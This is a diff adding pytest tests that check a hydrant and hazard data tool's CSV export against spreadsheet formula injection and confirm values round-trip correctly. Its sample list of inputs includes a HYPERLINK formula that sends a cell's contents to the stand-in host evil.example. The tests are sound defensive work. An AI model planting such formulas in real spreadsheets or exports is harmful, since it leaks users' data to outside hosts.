@@ -139,3 +139,65 @@ def test_hex_conversion_matches_h3() -> None:
     hexes = export.h3_to_hex(np.append(cells, np.uint64(0)))
     assert list(hexes[:-1]) == [h3.int_to_str(int(c)) for c in cells] and hexes[-1] == ""
     np.testing.assert_array_equal(export.hex_to_h3(hexes), np.append(cells, np.uint64(0)))
+
+
+# Cells Excel/WPS would run as a formula (OWASP CSV injection: = + - @ tab CR), cells that
+# start with the quote used to neutralise them, and harmless text.
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
+            "\r=1+1", "=", "-", "'already quoted", "''two quotes", "a=b", "普通名称"]
+
+
+def _formula_cells(path: Path) -> list[str]:
+    """Cells of a CSV that a spreadsheet would evaluate: a formula start, and not a plain number."""
+    import csv
+
+    with open(path, encoding="utf-8-sig", newline="") as fh:
+        cells = [cell for row in csv.reader(fh) for cell in row]
+    bad = []
+    for cell in cells:
+        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+            try:
+                float(cell)
+            except ValueError:
+                bad.append(cell)
+    return bad
+
+
+def test_csv_export_neutralises_formulas_and_round_trips(copy_demo_db: Path, tmp_path: Path,
+                                                        capsys: pytest.CaptureFixture[str]) -> None:
+    with store.writer(copy_demo_db) as con:
+        ids = [i for (i,) in con.execute("SELECT id FROM hydrant ORDER BY id LIMIT ?", [len(FORMULAS)]).fetchall()]
+        for k, (hydrant_id, text) in enumerate(zip(ids, FORMULAS, strict=True)):
+            con.execute("UPDATE hydrant SET name = ?, remark = ?, pressure_mpa = ? WHERE id = ?",
+                        [text, text, -0.25 - k, hydrant_id])
+        towns = [t for (t,) in con.execute("SELECT DISTINCT town FROM hazard WHERE town IS NOT NULL ORDER BY 1")
+                 .fetchall()]
+        for k, town in enumerate(towns):
+            con.execute("UPDATE hazard SET town = ? WHERE town = ?", [f"{FORMULAS[k % len(FORMULAS)]}{k}", town])
+    db = str(copy_demo_db)
+    for args, out in ((["hydrant"], "h.csv"), (["hydrant", "--zh"], "h_zh.csv"),
+                      (["recurring_places"], "r.csv"), (["hotspots"], "hs.csv")):
+        main(["export", *args, "--db", db, "--out", str(tmp_path / out)])
+        assert _formula_cells(tmp_path / out) == [], out
+    capsys.readouterr()
+    (tmp_path / "mem.csv").write_text(export.csv_text(pd.DataFrame({"name": FORMULAS, "v": -1.5})),
+                                      encoding="utf-8", newline="")  # the dashboard's in-memory CSV
+    assert _formula_cells(tmp_path / "mem.csv") == []
+    assert list(export.read_export(tmp_path / "mem.csv")["name"]) == FORMULAS
+    con = store.connect(copy_demo_db)
+    try:
+        stored = _expected(store.read_layer(con, "hydrant"))
+        for out in ("h.csv", "h_zh.csv"):  # every text back as it was, negative numbers as numbers
+            _assert_same(export.read_export(tmp_path / out, layer="hydrant"), stored)
+        raw = pd.read_csv(tmp_path / "h.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
+        assert "-0.25" in set(raw["pressure_mpa"]) and "-2+3" not in set(raw["name"])
+        recurring = export.compute_result(con, "recurring_places")
+        back = export.read_export(tmp_path / "r.csv")
+        assert back["town"].tolist() == recurring["town"].tolist()
+        assert any(t.startswith(("=", "+", "-", "@", "'")) for t in back["town"])
+        hotspots = export.compute_result(con, "hotspots")
+        back = export.read_export(tmp_path / "hs.csv")
+        assert (hotspots["z"] < 0).any()
+        np.testing.assert_allclose(back["z"].to_numpy(dtype=float), hotspots["z"].to_numpy(dtype=float))
+    finally:
+        con.close()
